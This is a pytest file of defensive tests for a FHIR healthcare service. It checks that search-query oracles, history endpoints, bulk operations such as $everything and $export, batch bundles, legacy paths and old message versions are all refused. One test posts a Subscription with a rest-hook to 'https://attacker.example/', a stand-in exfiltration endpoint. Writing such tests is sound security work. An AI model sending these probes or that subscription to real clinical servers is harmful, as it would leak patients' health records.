"""What a partner tries at the reading doors of the running whole to learn more than it is shown."""

import pytest

from partner import Refused
from tests.attacks.attacker import FHIR, PROCESS
from tests.attacks.test_attacks import PATIENCE, registered

pytestmark = pytest.mark.journey

KINDS = {
    "intake": ("EpisodeOfCare", "Composition"),
    "referral": ("Task", "ServiceRequest"),
    "closure": ("EpisodeOfCare",),
    "consent": ("Consent", "Organization", "AuditEvent"),
}
EVERYWHERE = [(service, kind) for service, kinds in KINDS.items() for kind in kinds]
ORACLES = [
    "birthdate=ge2012-01-01",
    "patient.birthdate=le2012-01-01",
    "patient:Patient.name=A",
    "_has:Consent:patient:status=active",
    "_include=*",
    "_revinclude=AuditEvent:patient",
    "_filter=status eq active",
    "_content=a",
    "_text=a",
    "_sort=-_lastUpdated",
    "_elements=text",
    "_since=2020-01-01",
]


@pytest.mark.parametrize(("service", "kind"), EVERYWHERE)
def test_c17_c18_no_question_is_answered_that_could_be_asked_by_halves(host, service, kind):
    answers = {ask: host.get(service, f"/fhir/{kind}?{ask}") for ask in ORACLES}

    assert {ask: each.status_code for ask, each in answers.items() if each.status_code != 400} == {}
    assert {each.json()["resourceType"] for each in answers.values()} == {"OperationOutcome"}


@pytest.mark.parametrize(("service", "kind"), EVERYWHERE)
def test_c19_what_was_is_not_shown_beside_what_is(host, service, kind):
    name = registered(host) if kind == "EpisodeOfCare" else "0" * 32
    paths = ("_history", f"{name}/_history", f"{name}/_history/1")

    answers = {path: host.get(service, f"/fhir/{kind}/{path}").status_code for path in paths}

    assert set(answers.values()) == {404}


OPERATIONS = ["$everything", "$export", "$graphql", "$meta", "$document"]


@pytest.mark.parametrize("service", KINDS)
def test_c21_no_operation_gives_all_at_once(host, service):
    kind, name = KINDS[service][0], registered(host)
    places = ["/fhir", f"/fhir/{kind}/{name}", "/fhir/Patient/1"]

    found = [host.get(service, f"{place}/{op}") for place in places for op in OPERATIONS]
    found += [host.post(service, {"resourceType": "Parameters"}, f"/fhir/{kind}/$validate")]
    found += [host.get(service, "/fhir/_history")]

    assert {each.status_code for each in found} <= {404, 405}


@pytest.mark.parametrize("kind", ["batch", "transaction"])
@pytest.mark.parametrize("service", KINDS)
def test_c21_nothing_is_asked_in_bundles(host, service, kind):
    entry = {"request": {"method": "GET", "url": "EpisodeOfCare"}}
    bundle = {"resourceType": "Bundle", "type": kind, "entry": [entry]}

    assert host.post(service, bundle, "/fhir").status_code in {404, 405}
    assert host.post(service, bundle, "/fhir/").status_code in {404, 405}
    assert host.post(service, bundle).status_code in {400, 422}  # is no message either


@pytest.mark.parametrize("service", KINDS)
def test_c23_nobody_subscribes_to_what_it_was_not_asked_for(host, service):
    channel = {"type": "rest-hook", "endpoint": "https://attacker.example/", "payload": FHIR}
    wanted = {
        "resourceType": "Subscription",
        "status": "requested",
        "reason": "x",
        "criteria": "Task?status=requested",
        "channel": channel,
    }

    assert host.post(service, wanted, "/fhir/Subscription").status_code in {404, 405}
    assert host.get(service, "/fhir/Subscription").status_code == 404


@pytest.mark.parametrize("service", KINDS)
@pytest.mark.parametrize("base", ["/v1/fhir", "/fhir/v1", "/fhir/R3", "/api", "/fhir/2"])
def test_c35_there_is_no_older_door_beside_this_one(host, service, base):
    operation = PROCESS.removeprefix("/fhir")

    assert host.post(service, b"{}", f"{base}{operation}").status_code == 404


OLDER = ["register-case|0.9", "register-case|2.0", "register-case", "register-case-v0|1.0"]


def of_version(host, definition):
    """A message that would be taken, but for the definition that it names."""
    message = host.message("register-case-amina")
    header = message["entry"][0]["resource"]
    header["definition"] = f"{header['definition'].rpartition('/')[0]}/{definition}"
    return message


@pytest.mark.parametrize("definition", OLDER)
def test_c35_a_message_of_another_version_is_refused(host, definition):
    assert host.post("intake", of_version(host, definition)).status_code in {400, 422}


def test_k15_so_it_is_when_it_comes_as_a_record(host):
    with pytest.raises(Refused):
        host.partner.send(of_version(host, OLDER[0]), over="kafka", timeout=PATIENCE)
